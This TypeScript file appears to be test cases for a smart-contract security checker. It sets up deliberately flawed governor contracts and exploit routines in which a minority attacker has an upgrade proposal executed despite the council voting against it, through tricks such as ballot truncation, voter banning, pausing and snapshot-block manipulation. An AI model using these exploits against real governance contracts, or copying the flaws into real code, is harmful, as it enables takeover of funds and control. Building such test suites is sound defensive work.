/** Governors whose voters cannot stop a proposal, whose votes count as of an earlier time, or which call something else. */
import { type Hex, zeroAddress } from 'viem'
import type { Attack } from '../attack.ts'
import { type Case, type Twin, WEAK } from '../case.ts'
import { type Built, type Chain, callData } from '../chain.ts'
import { upgradeCall } from '../safes.ts'
import { LESS_THAN_HALF, proposal, tokenFor, tokenOf, voted } from './lists.ts'
import { controlledBy, part } from './lying-getters.ts'

type Draft = Omit<Case, 'truth' | 'cause' | 'by'> & Partial<Pick<Case, 'by'>>

const PROPOSE = 'propose(address,bytes)'
const VOTE = 'vote(bytes32,bool)'
const EXECUTE = 'execute(address,bytes)'

/** The council has more than half of the votes, the attacker less. */
const divided =
  (name: string, votes = LESS_THAN_HALF): Case['build'] =>
  async (chain) => {
    const [built, council] = [await voted(name, tokenFor('CheckpointToken', votes))(chain), await chain.council()]
    await chain.send(part(built, 'token'), 'delegate(address)', [council], council)
    return built
  }

/** The council votes against a proposal, if it can. */
const oppose = async ({ chain }: Attack, governor: Hex, id: Hex): Promise<void> => {
  await chain.evm.sendRaw(governor, callData(VOTE, [id, false]), await chain.council()).catch(() => undefined)
}

type Plan = {
  readonly propose?: (attack: Attack, governor: Hex, target: Hex, data: Hex) => Promise<void>
  readonly before?: (attack: Attack, governor: Hex, id: Hex) => Promise<void>
  readonly after?: (attack: Attack, governor: Hex, id: Hex) => Promise<void>
  /** The attacker votes before the council does. */
  readonly isFirst?: true
  readonly execute?: string
}
/** The attacker's proposal is executed, though the council votes against it. */
const outvoted =
  ({ propose, before, after, isFirst, execute = EXECUTE }: Plan = {}): Case['exploit'] =>
  async (attack, built) => {
    const [governor, target] = [part(built, 'controller'), part(built, 'admin')]
    const data = upgradeCall(built.address, attack.code)
    const id = proposal(target, data)
    if (propose === undefined) await attack.send(governor, PROPOSE, [target, data])
    else await propose(attack, governor, target, data)
    await attack.mine(2)
    const support = (): Promise<void> => attack.send(governor, VOTE, [id, true])
    await before?.(attack, governor, id)
    if (isFirst === true) await support()
    await oppose(attack, governor, id)
    await after?.(attack, governor, id)
    if (isFirst !== true) await support()
    await attack.wait(700_000)
    await attack.send(governor, execute, [target, data])
  }
/** All votes were the attacker's, for some blocks. */
const sold =
  (name: string): Case['build'] =>
  async (chain) => {
    const [council, holder] = [await chain.council(), chain.hidden().address]
    const all = 10n ** 24n
    const token = await tokenOf('CheckpointToken', all)(chain)
    await chain.send(token, 'delegate(address)', [holder], holder)
    await chain.evm.mine(2)
    const built = await controlledBy(chain, await chain.deploy(name, token), { token })
    await chain.send(token, 'transfer(address,uint96)', [council, all], holder)
    await chain.send(token, 'delegate(address)', [council], council)
    return built
  }
/** Returns the last block in which all votes were the attacker's. */
async function lastBlock({ chain, read, account }: Attack, token: Hex): Promise<bigint> {
  const votesAt = (block: bigint): Promise<Hex> =>
    read(token, 'getPastVotes(address,uint256)', [account.address, block])
  let block = BigInt(await chain.evm.blockNumber()) - 1n
  while (BigInt(await votesAt(block)) === 0n) block -= 1n
  return block
}

/** A council has voted for a proposal that calls nothing, or has no target. */
const passed =
  (
    name: string,
    targetOf: (built: Built) => Hex,
    dataOf: (built: Built, chain: Chain) => Promise<Hex>,
  ): Case['build'] =>
  async (chain) => {
    const council = await chain.council()
    const token = await chain.deploy('CheckpointToken', council)
    const built = await controlledBy(chain, await chain.deploy(name, token), { token })
    await chain.send(token, 'delegate(address)', [council], council)
    await chain.send(part(built, 'controller'), PROPOSE, [targetOf(built), await dataOf(built, chain)])
    await chain.send(part(built, 'controller'), 'vote(uint256,bool)', [1n, true], council)
    return built
  }

const upgradeOf = ({ code }: Attack, { address }: Built): Hex => upgradeCall(address, code)

const drafts: readonly Draft[] = [
  { name: 'votes against a proposal are cut to few bits', build: divided('CutBallots'), exploit: outvoted() },
  { name: 'all votes are cut to few bits', build: divided('LowBallots', 2n ** 32n - 1n), exploit: outvoted() },
  {
    name: 'a proposal passes also if more votes are against it',
    build: divided('EitherWayBallots'),
    exploit: outvoted({ execute: 'executeRejected(address,bytes)' }),
  },
  { name: 'every vote is one for the proposal', build: divided('AgreeingBallots'), exploit: outvoted() },
  { name: 'votes against a proposal count for another table', build: divided('AsideBallots'), exploit: outvoted() },
  { name: 'one account may vote against a proposal', build: divided('OneOpponentBallots'), exploit: outvoted() },
  { name: 'a vote against a proposal needs a high price of gas', build: divided('GasBallots'), exploit: outvoted() },
  {
    name: 'a vote against a proposal counts after the end only',
    build: divided('OverdueBallots'),
    exploit: outvoted(),
  },
  {
    name: 'a vote against a proposal must be the first one',
    build: divided('EarlyBallots'),
    exploit: outvoted({ isFirst: true }),
  },
  { name: 'a vote against a proposal needs all votes', build: divided('LargeBallots'), exploit: outvoted() },
  {
    name: 'any caller may ban voters',
    build: divided('BanningBallots'),
    exploit: outvoted({
      before: async (attack, governor) => attack.send(governor, 'ban(address)', [await attack.chain.council()]),
    }),
  },
  {
    name: 'any caller may pause votes',
    build: divided('PausingBallots'),
    exploit: outvoted({
      before: (attack, governor) => attack.send(governor, 'pause(bool)', [true]),
      after: (attack, governor) => attack.send(governor, 'pause(bool)', [false]),
    }),
  },
  {
    name: 'a proposer chooses as of which earlier block votes count',
    build: sold('GivenStartBallots'),
    exploit: async (attack, built) => {
      const start = await lastBlock(attack, part(built, 'token'))
      const propose: Plan['propose'] = (_, governor, target, data) =>
        attack.send(governor, 'proposeAt(address,bytes,uint256)', [target, data, start])
      await outvoted({ propose })(attack, built)
    },
  },
  {
    name: 'votes count as of the block in which the governor was deployed',
    build: sold('FirstStartBallots'),
    exploit: outvoted(),
  },
  ...['SetStartBallots', 'WrappingStartBallots'].map(
    (contract): Draft => ({
      name: `any caller sets how many blocks before the proposal votes count: ${contract}`,
      build: sold(contract),
      exploit: async (attack, built) => {
        const blocks =
          BigInt(await attack.chain.evm.blockNumber()) + 2n - (await lastBlock(attack, part(built, 'token')))
        const period = contract === 'SetStartBallots' ? blocks : 2n ** 256n - blocks
        await attack.send(part(built, 'controller'), 'setPeriod(uint256)', [period])
        await outvoted()(attack, built)
      },
    }),
  ),
  {
    name: 'votes count as of half of the number of a block',
    build: sold('HalvedStartBallots'),
    exploit: async (attack, built) => {
      const last = await lastBlock(attack, part(built, 'token'))
      await attack.mine(2 * Number(last) - (await attack.chain.evm.blockNumber()))
      await outvoted()(attack, built)
    },
  },
  {
    name: 'a proposal without data calls what any caller stores',
    by: 'anyone',
    build: passed(
      'CommonDataBallots',
      (built) => part(built, 'admin'),
      async () => '0x',
    ),
    exploit: async (attack, built) => {
      await attack.wait(700_000)
      await attack.send(part(built, 'controller'), 'setCommon(bytes)', [upgradeOf(attack, built)])
      await attack.send(part(built, 'controller'), 'run(uint256)', [1n])
    },
  },
  {
    name: 'a proposal without a target calls one that any caller stores',
    by: 'anyone',
    build: passed(
      'CommonTargetBallots',
      () => zeroAddress,
      async ({ address }, chain) => upgradeCall(address, await chain.deploy('Taken')),
    ),
    exploit: async (attack, built) => {
      await attack.wait(700_000)
      await attack.send(part(built, 'controller'), 'setCommon(address)', [part(built, 'admin')])
      await attack.send(part(built, 'controller'), 'run(uint256)', [1n])
    },
  },
]

export const unopposedVotes: readonly Case[] = drafts.map((draft) => ({
  cause: 'lying getter',
  by: 'one key',
  truth: WEAK,
  ...draft,
}))

export const unopposedVoteTwins: readonly Twin[] = [
  {
    name: 'a vote that a council may pause',
    cause: 'lying getter',
    twinOf: 'any caller may pause votes',
    deserves: 'multisig',
    build: async (chain) => {
      const token = await tokenFor('CheckpointToken', LESS_THAN_HALF)(chain)
      return controlledBy(chain, await chain.deploy('GuardedBallots', token, await chain.council()), { token })
    },
  },
  {
    name: 'a vote as of a block that is still to come',
    cause: 'lying getter',
    twinOf: 'any caller sets how many blocks before the proposal votes count: SetStartBallots',
    deserves: 'multisig',
    build: sold('DelayedBallots'),
  },
]
